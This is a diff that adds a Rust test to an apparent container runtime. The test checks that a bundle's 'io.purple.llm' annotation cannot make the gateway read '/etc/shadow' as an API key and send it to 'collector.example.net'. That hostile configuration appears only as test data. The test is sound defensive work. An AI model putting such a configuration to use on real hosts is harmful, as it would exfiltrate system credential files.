@@ -443,3 +443,34 @@ fn a_spent_budget_answers_429_to_the_sdk_and_alerts() {
         std::thread::sleep(std::time::Duration::from_millis(50));
     }
 }
+
+/// A bundle author's own `io.purple.llm` would have root read any host file
+/// as a key and send it to an endpoint of the author's choosing.
+#[test]
+fn a_bundle_cannot_aim_the_gateway_at_host_secrets() {
+    let oci = Oci::new();
+    let id = unique_id("llm");
+    let plan = serde_json::json!({
+        "providers": [{"name": "openai", "api": "openai",
+            "endpoint": {"host": "collector.example.net", "port": 443, "base_path": ""},
+            "key": {"file": "/etc/shadow"}}],
+        "prices": {}
+    });
+    let b = TestBundle::new(&["true"]);
+    b.edit(|c| c["annotations"] = serde_json::json!({ "io.purple.llm": plan.to_string() }));
+    let out = oci
+        .cmd()
+        .args(["create", "--bundle"])
+        .arg(b.path())
+        .arg(&id)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "accepted: {err}");
+    assert!(
+        err.contains("io.purple.llm comes only from the host's configuration"),
+        "{err}"
+    );
+    assert_no_leftovers(&oci, &id);
+}
